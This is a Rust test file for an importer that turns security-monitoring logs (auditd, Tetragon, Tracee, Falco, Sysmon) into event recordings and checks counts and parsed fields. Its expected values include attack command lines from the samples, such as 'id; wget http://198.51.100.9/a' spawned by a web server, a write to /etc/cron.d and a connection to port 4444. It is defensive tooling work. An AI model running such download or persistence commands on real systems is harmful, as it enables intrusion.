//! What becomes of the sample logs in tests/samples; IMPORT.md says where each comes from, and has these numbers.

use std::collections::BTreeMap;
use std::io::Read as _;
use std::path::{Path, PathBuf};

use datasets::import::{Format, Imported, import};
use datasets::*;
use flate2::read::MultiGzDecoder;

fn sample(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/samples").join(name)
}

struct Made {
    imported: Imported,
    events: Vec<Event>,
    recording: Recording,
    _dir: tempfile::TempDir,
}

/// Verified, and read back.
fn made(bytes: &[u8], format: Option<Format>) -> Made {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("out");
    let imported = import(bytes, "a.log".as_ref(), format, &out, |_| {}).unwrap();
    let report = verify(&out, |_| {}).unwrap();
    assert_eq!(report.verdict, Verdict::Intact, "{:?}", report.findings);
    let recording = Recording::open(&out).unwrap();
    let events = recording.events().map(Result::unwrap).collect();
    Made { imported, events, recording, _dir: dir }
}

fn bytes(name: &str) -> Vec<u8> {
    let file = std::fs::File::open(sample(name)).unwrap();
    let mut bytes = Vec::new();
    if name.ends_with(".gz") {
        MultiGzDecoder::new(file).read_to_end(&mut bytes).unwrap();
    } else {
        std::io::BufReader::new(file).read_to_end(&mut bytes).unwrap();
    }
    bytes
}

fn of(name: &str) -> Made {
    made(&bytes(name), None)
}

fn ops(events: &[Event]) -> BTreeMap<&'static str, usize> {
    events.iter().fold(BTreeMap::new(), |mut ops, event| {
        *ops.entry(event.common().kind.op()).or_default() += 1;
        ops
    })
}

fn words(argv: Option<&[std::sync::Arc<str>]>) -> Vec<&str> {
    argv.into_iter().flat_map(|words| words.iter().map(|word| &**word)).collect()
}

/// Lines, rows, malformed, left out: what IMPORT.md says.
#[test]
fn the_counts_are_those_of_the_document() {
    let document = std::fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("IMPORT.md")).unwrap();
    let formats = [
        ("auditd-files.log.gz", Format::Auditd),
        ("tetragon.jsonl", Format::Tetragon),
        ("tracee.jsonl", Format::Tracee),
        ("falco.jsonl", Format::Falco),
        ("sysmon.log", Format::Sysmon),
    ];
    for (name, format) in formats {
        let Made { imported, events, _dir, .. } = of(name);
        assert_eq!(imported.format, format);
        let left_out: u64 = imported.left_out.values().sum();
        let counts =
            format!("| `{name}` | {} | {} | {left_out} | {} |", imported.lines, events.len(), imported.malformed);
        assert!(
            document.contains(&counts),
            "IMPORT.md lacks: {counts}\n{:#?}\n{:?}",
            imported.left_out,
            imported.named
        );
    }
}

#[test]
fn files_that_a_log_of_auditd_names() {
    let Made { imported, events, recording, _dir } = of("auditd-files.log.gz");
    assert_eq!(imported.malformed, 0, "{:?}", imported.named);
    let counts = [("exec", 10), ("exit", 14), ("open", 7), ("mkdir", 1), ("rename", 1), ("unlink", 1), ("connect", 2)];
    assert_eq!(ops(&events), counts.into());
    let left_out =
        [("exec that failed", 15), ("system call 62 (arch c000003e)", 1)].map(|(name, n)| (name.to_owned(), n));
    assert_eq!(imported.left_out, left_out.into());
    let files = |op: &str| {
        let files = events.iter().filter_map(|event| match event {
            Event::File(row) if row.common.kind.op() == op => Some(row),
            _ => None,
        });
        files.collect::<Vec<&FileEvent>>()
    };
    let opens: Vec<(&str, i32)> = files("open").iter().map(|row| (row.path.as_deref().unwrap(), row.ret)).collect();
    for open in [("/work/note.txt", 3), ("/work/missing.txt", -2), ("/dev/null", 0)] {
        assert!(opens.contains(&open), "{open:?} is not in {opens:?}");
    }
    let [rename] = files("rename")[..] else { panic!() };
    let names = (rename.path.as_deref(), rename.new_path.as_deref(), rename.ret);
    assert_eq!(names, (Some("/work/note.txt"), Some("/work/sub/note.txt"), 0));
    assert_eq!(files("mkdir")[0].mode, Some(0o777), "what the call asked for");
    let of_one = |op: &str| files(op)[0].path.clone();
    assert_eq!([of_one("mkdir"), of_one("unlink")].map(Option::unwrap), ["/work/sub".into(), "/work/got.txt".into()]);
    let Some(Event::Process(quoted)) = events
        .iter()
        .find(|event| matches!(event, Event::Process(row) if row.argv.as_deref().is_some_and(|argv| argv.len() == 6)))
    else {
        panic!("{events:#?}")
    };
    let argv = words(quoted.argv.as_deref());
    assert_eq!(argv, ["/bin/sh", "-c", "echo \"two words\"", "argument with spaces", "grün", ""]);
    let codes: Vec<i32> = recording.processes().unwrap().iter().filter_map(|process| process.exit_code).collect();
    assert!(codes.contains(&3) && codes.contains(&126), "{codes:?}");
}

#[test]
fn tetragon_as_documented() {
    let Made { imported, events, recording, _dir } = of("tetragon.jsonl");
    assert_eq!(ops(&events), [("exec", 2), ("connect", 1), ("exit", 2)].into());
    assert_eq!(imported.left_out["process_exec of a process that ran before (procFS)"], 1);
    let processes = recording.processes().unwrap();
    assert_eq!((processes[0].origin, processes[0].exe.as_deref()), (Origin::Snapshot, Some("/usr/sbin/httpd")));
    assert_eq!(processes[1].parent_exec_id, Some(processes[0].exec_id), "the shell is the server's child");
    let Event::Process(exec) = &events[0] else { panic!("{events:#?}") };
    assert_eq!(words(exec.argv.as_deref()), ["/bin/sh", "-c", "id; wget http://198.51.100.9/a"]);
    assert_eq!(recording.containers().unwrap()[0].runtime.as_deref(), Some("containerd"));
}

#[test]
fn tracee_as_documented() {
    let Made { events, recording, _dir, .. } = of("tracee.jsonl");
    assert_eq!(ops(&events), [("fork", 1), ("exec", 2), ("connect", 3), ("exit", 1)].into());
    let Event::Network(last) = &events[4] else { panic!("{events:#?}") };
    assert_eq!(last.unix_path.as_deref(), Some("/run/a.sock"));
    let Event::Process(older) = &events[6] else { panic!("{events:#?}") };
    assert_eq!((older.common.container.as_deref(), words(older.argv.as_deref())), (None, vec!["ls", "--color=auto"]));
    assert_eq!(recording.containers().unwrap().len(), 1);
}

#[test]
fn falco_alerts_with_what_a_row_needs() {
    let Made { imported, events, recording, _dir } = of("falco.jsonl");
    let [Event::Process(shell), Event::File(write), Event::Network(connect), Event::Process(host)] = &events[..] else {
        panic!("{events:#?}")
    };
    assert_eq!((shell.exe.as_deref(), shell.uid), (Some("/usr/bin/dash"), Some(33)));
    assert_eq!(words(shell.argv.as_deref())[..3], ["sh", "-c", "id;"]);
    // O_WRONLY, O_CREAT and O_TRUNC; the others are names of Falco's own.
    assert_eq!((write.path.as_deref(), write.flags), (Some("/etc/cron.d/a"), Some(0o1101)));
    assert_eq!((connect.peer_addr.as_deref(), connect.peer_port), (Some("198.51.100.9"), Some(4444)));
    assert_eq!((connect.local_port, &*connect.protocol), (Some(40112), "tcp"));
    assert_eq!((host.common.container.as_deref(), host.exe.as_deref()), (None, None));
    let left_out: Vec<&str> = imported.left_out.keys().map(String::as_str).collect();
    let why = ["of source k8s_audit", "without evt.type", "without output_fields", "without proc.pid"];
    let why: Vec<String> = why.iter().map(|why| format!("alert {why}")).chain(["evt.type ptrace".to_owned()]).collect();
    assert_eq!(left_out, why);
    assert_eq!(recording.containers().unwrap()[0].image.as_deref(), Some("registry.example/web:2"));
}

#[test]
fn sysmon_in_a_syslog() {
    let Made { imported, events, _dir, .. } = of("sysmon.log");
    let [
        Event::Process(exec),
        Event::File(create),
        Event::Network(connect),
        Event::Network(accept),
        Event::File(delete),
        Event::Process(_),
    ] = &events[..]
    else {
        panic!("{events:#?}")
    };
    assert_eq!(words(exec.argv.as_deref())[2..6], ["id", "&&", "wget", "-q"]);
    assert_eq!((exec.cwd.as_deref(), exec.uid), (Some("/srv"), None));
    assert_eq!(exec.common.ts, 1_772_359_200_100_000_000);
    assert_eq!((create.flags, create.path.as_deref()), (Some(0o100), Some("/tmp/a")));
    assert!(create.path_from_user && delete.path_from_user, "no kernel object was looked at");
    assert_eq!((connect.peer_port, connect.local_port), (Some(80), Some(40112)));
    assert_eq!((accept.common.kind.op(), accept.peer_addr.as_deref()), ("accept", Some("198.51.100.7")));
    assert_eq!((delete.common.kind.op(), delete.path.as_deref()), ("unlink", Some("/tmp/a")));
    assert_eq!(imported.left_out["event 4 without ProcessId"], 1);
    // The first line, of systemd, and the last, which is cut.
    assert_eq!(imported.named.iter().map(|(line, _)| *line).collect::<Vec<_>>(), [1, 9]);
    let text = bytes("sysmon.log");
    let told = made(&text, Some(Format::Sysmon)).imported;
    assert_eq!((told.malformed, told.left_out["line without an event of Sysmon"]), (1, 1));
}

#[test]
fn a_format_is_told_by_a_later_line() {
    let text = bytes("falco.jsonl");
    let broken = [b"\xff\xfe broken\n{\"rule\": \n".as_slice(), &text].concat();
    let (whole, broken) = (made(&text, None).imported, made(&broken, None).imported);
    assert_eq!((broken.format, broken.lines, broken.malformed), (Format::Falco, whole.lines + 2, 2));
    assert_eq!(broken.manifest.rows(), whole.manifest.rows());
}

#[test]
fn a_long_file_of_something_else_is_refused_early() {
    let dir = tempfile::tempdir().unwrap();
    let mut lines = "no log\n".repeat(100_000).into_bytes();
    lines.extend(bytes("falco.jsonl"));
    let (out, mut rest) = (dir.path().join("out"), lines.as_slice());
    let error = import(&mut rest, "a.log".as_ref(), None, &out, |_| {}).unwrap_err();
    assert!(
        error.to_string().contains("first hundred lines") && rest.len() > lines.len() / 2 && !out.exists(),
        "{error}"
    );
}
